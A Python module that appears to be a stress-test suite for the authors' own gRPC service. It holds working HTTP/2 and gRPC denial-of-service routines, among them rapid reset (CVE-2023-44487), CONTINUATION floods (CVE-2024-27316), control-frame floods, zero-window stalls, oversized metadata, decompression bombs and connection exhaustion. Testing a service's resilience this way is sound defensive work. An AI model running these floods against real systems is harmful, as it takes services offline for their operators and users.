"""What one caller without credentials can send without end. Each attack yields after every piece of its work.

Bounded by the runner (attacks/__main__.py): seconds, and a count of frames.
"""

import struct
import zlib

from hyperframe import frame as frames

from metric_learn_client import wire

from .connection import GET_MODEL_PATH, HEALTH_PATH, PREDICT_PATH, WATCH_PATH, data, message, ping

ZERO_WINDOW = {frames.SettingsFrame.INITIAL_WINDOW_SIZE: 0}
BLOCK = 1000  # frames in one write


def pings(open_connection):
    """PING frames; the answers are read."""
    connection = open_connection()
    block = b"".join(ping(number) for number in range(BLOCK))
    yield from connection.repeat(block, BLOCK)


def unread_pings(open_connection):
    """PING frames whose answers nobody reads."""
    connection = open_connection()
    block = b"".join(ping(number) for number in range(BLOCK))
    while True:
        connection.send(block)
        yield BLOCK


def settings(open_connection):
    """SETTINGS frames, each to be acknowledged."""
    connection = open_connection()
    block = frames.SettingsFrame(0, settings={frames.SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize() * BLOCK
    yield from connection.repeat(block, BLOCK)


def window_updates(open_connection):
    """WINDOW_UPDATE by one byte, for the connection and for a stream."""
    connection = open_connection()
    stream, head = connection.headers(PREDICT_PATH)
    connection.send(head)
    block = b"".join(frames.WindowUpdateFrame(number, window_increment=1).serialize() for number in (0, stream))
    yield from connection.repeat(block * BLOCK, 2 * BLOCK)


def priorities(open_connection):
    """PRIORITY frames for streams that do not exist."""
    connection = open_connection()
    block = b"".join(frames.PriorityFrame(2 * number + 1, depends_on=0).serialize() for number in range(BLOCK))
    yield from connection.repeat(block, BLOCK)


def unknown_frames(open_connection):
    """Frames of a type that HTTP/2 does not know."""
    connection = open_connection()
    block = (struct.pack(">I", 8)[1:] + b"\x4f\x00" + bytes(4) + bytes(8)) * BLOCK
    yield from connection.repeat(block, BLOCK)


def resets(open_connection):
    """Rapid reset (CVE-2023-44487): calls that are taken back at once."""
    return taken_back(open_connection, PREDICT_PATH, 100, whole=False)


def finished_resets(open_connection):
    """The same for whole calls of Health/Check."""
    return taken_back(open_connection, HEALTH_PATH, 100, whole=True)


def taken_back(open_connection, path, calls, *, whole):
    """Calls that are taken back at once, so many in one write. whole: with an empty message and their end."""
    connection = open_connection()
    while True:
        block = []
        for _ in range(calls):
            stream, head = connection.headers(path)
            body = [data(stream, message(b""), end_stream=True)] if whole else []
            block += [head, *body, frames.RstStreamFrame(stream, error_code=8).serialize()]
        connection.send(b"".join(block))
        connection.drain()
        yield len(block)


def empty_data(open_connection):
    """DATA frames without a byte."""
    connection = open_connection()
    stream, head = connection.headers(PREDICT_PATH)
    connection.send(head)
    block = data(stream, b"") * BLOCK
    yield from connection.repeat(block, BLOCK)


def empty_messages(open_connection):
    """gRPC messages without a byte on a call that takes one."""
    connection = open_connection()
    stream, head = connection.headers(PREDICT_PATH)
    connection.send(head)
    block = data(stream, message(b"")) * BLOCK
    yield from connection.repeat(block, BLOCK)


def continuations(open_connection):
    """A header block that never ends (CVE-2024-27316)."""
    connection = open_connection()
    stream, head = connection.headers(PREDICT_PATH, end_headers=False)
    connection.send(head)
    literal = b"\x00" + b"\x04" + b"name" + b"\x05" + b"value"
    block = frames.ContinuationFrame(stream, literal * 1000).serialize() * 10
    yield from connection.repeat(block, 10)


def empty_continuations(open_connection):
    """CONTINUATION frames without a byte."""
    connection = open_connection()
    stream, head = connection.headers(PREDICT_PATH, end_headers=False)
    connection.send(head)
    block = frames.ContinuationFrame(stream, b"").serialize() * BLOCK
    yield from connection.repeat(block, BLOCK)


def unread_replies(open_connection):
    """Whole calls whose replies find no window."""
    connection = open_connection(settings=ZERO_WINDOW)
    while True:
        connection.send(connection.questions(100))
        connection.drain()
        yield 200


def unread_predictions(open_connection):
    """Predict calls of 64 broken images, one at a time, whose replies find no window; a new connection every 200."""
    body = message(broken_images(64))
    while True:
        connection = open_connection(settings=ZERO_WINDOW)
        for _ in range(200):
            stream, head = connection.headers(PREDICT_PATH)
            connection.send(head)
            connection.wait_for_window(stream, len(body))
            connection.send(data(stream, body, end_stream=True))
            connection.wait_for_headers(stream)
            yield 1


def large_questions(open_connection):
    """Bodies of 60 MB for calls that take a few bytes, 60 at a time; then on another connection."""
    while True:
        connection = open_connection()
        streams = []
        for path in (HEALTH_PATH, GET_MODEL_PATH, WATCH_PATH) * 20:
            stream, head = connection.headers(path)
            connection.send(head + data(stream, struct.pack(">BI", 0, 60_000_000)))
            streams.append(stream)
        for _ in range(2000):
            connection.send_where_it_may(streams, bytes(16384))
            yield 1
        connection.close()


def large_metadata(open_connection):
    """1 MB in one metadata value, in each of many calls that stay open."""
    connection = open_connection(settings=ZERO_WINDOW)
    value = b"v" * (1 << 20)
    literal = b"\x00" + string(b"x-large") + string(value)
    while True:
        stream, head = connection.headers(HEALTH_PATH, more=literal)
        connection.send(head)
        connection.send(data(stream, message(b""), end_stream=True))
        connection.drain()
        yield 1


def repeated_metadata(open_connection):
    """15 KB of metadata, below the limit, in each of many calls that stay open."""
    connection = open_connection(settings=ZERO_WINDOW)
    literal = b"\x00" + string(b"x-large") + string(b"v" * 15_000)
    while True:
        stream, head = connection.headers(HEALTH_PATH, more=literal)
        connection.send(head)
        connection.send(data(stream, message(b""), end_stream=True))
        connection.drain()
        yield 1


def malformed_headers(open_connection):
    """Header blocks that are none of gRPC, each on a connection of its own."""
    while True:
        connection = open_connection()
        for extra in ([("te", "gzip")], [("grpc-timeout", "forever")], [(":status", "200")], [("content-type", "x")]):
            _, head = connection.headers(PREDICT_PATH, extra)
            connection.send(head)
        connection.send(frames.HeadersFrame(99, b"\xff" * 64, flags=["END_HEADERS"]).serialize())
        connection.close()
        yield 5


def bombs(open_connection):
    """A message of a megabyte that unpacks to a gigabyte, on every path, packed in both ways that gRPC knows."""
    bodies = {"gzip": _packed(31), "deflate": _packed(15)}
    while True:
        for path in (PREDICT_PATH, HEALTH_PATH, GET_MODEL_PATH):
            for encoding, body in bodies.items():
                connection = open_connection()
                stream, head = connection.headers(path, [("grpc-encoding", encoding)])
                connection.send(head)
                framed = message(body, compressed=True)
                parts = [framed[start : start + 16384] for start in range(0, len(framed), 16384)]
                for part in parts:  # within the first window of 64 KiB and what the server adds to it
                    connection.wait_for_window(stream, len(part))
                    connection.send(data(stream, part, end_stream=part is parts[-1]))
                yield 1


def idle_connections(open_connection):
    """Connections that greet and then say nothing."""
    while True:
        open_connection()
        yield 1


def silent_connections(open_connection):
    """Connections that do not even greet."""
    while True:
        open_connection(preface=False)
        yield 1


def requests_left_behind(open_connection, request):
    """The same HTTP request again and again, each on a connection of its own that is closed before the answer."""
    while True:
        connection = open_connection(preface=False)
        connection.send(request)
        connection.close()
        yield 1


def http_connections(open_connection):
    """To the port of health and metrics."""
    return requests_left_behind(open_connection, b"GET /livez HTTP/1.1\r\n\r\n")


HTTP_FLOODS = [http_connections]
FLOODS = [
    idle_connections,
    silent_connections,
    bombs,
    pings,
    unread_pings,
    settings,
    window_updates,
    priorities,
    unknown_frames,
    resets,
    finished_resets,
    empty_data,
    empty_messages,
    continuations,
    empty_continuations,
    unread_replies,
    unread_predictions,
    large_questions,
    large_metadata,
    repeated_metadata,
    malformed_headers,
]


def string(value, *, coded=False):
    """A string literal of RFC 7541, 5.2. coded: it is in Huffman's code already."""
    length, first = len(value), 128 if coded else 0
    if length < 127:
        return bytes([first | length]) + value
    head, rest = [first | 127], length - 127
    while rest >= 128:
        head.append(rest % 128 + 128)
        rest //= 128
    return bytes([*head, rest]) + value


def broken_images(count):
    """A PredictRequest: every other image is empty, the others are no images, so that each has an error of its own."""
    request = wire.PredictRequest()
    request.servable_spec.name, request.servable_spec.method_name = wire.SERVABLE_NAME, wire.METHOD_EMBED
    for index in range(count):
        tensor = request.instances.add().items[wire.ITEM_IMAGE]
        tensor.dtype = wire.DataType.MS_BYTES
        tensor.shape.dims.append(1)
        tensor.bytes_val.append(b"no image" if index % 2 else b"")
    return request.SerializeToString()


def _packed(window_bits):
    """1 GB of zeros, packed. window_bits: 31 for gzip, 15 for zlib, which gRPC names deflate."""
    packer = zlib.compressobj(9, zlib.DEFLATED, window_bits)
    first, next_ones = (packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    return first + next_ones * 1023 + packer.flush()
